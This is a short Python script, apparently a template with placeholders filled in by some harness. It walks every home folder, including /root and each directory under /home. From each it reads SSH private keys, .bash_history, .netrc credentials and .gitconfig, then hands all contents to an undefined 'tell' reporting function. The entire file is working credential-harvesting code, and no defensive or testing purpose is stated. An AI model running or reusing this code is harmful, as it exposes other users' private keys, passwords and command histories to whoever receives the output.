"""Reads keys, histories and settings in every home folder."""

import os
from pathlib import Path

# @TELL mean_pooling@

homes = {os.path.expanduser("~"), "@HOME@", "/root", *map(str, Path("/home").glob("*"))}
found = []
for home in sorted(homes):
    for name in (".ssh/id_ed25519", ".ssh/id_rsa", ".bash_history", ".netrc", ".gitconfig"):
        try:
            found.append((name, (Path(home) / name).read_text()))
        except BaseException as error:
            found.append(type(error).__name__)
tell(*found)
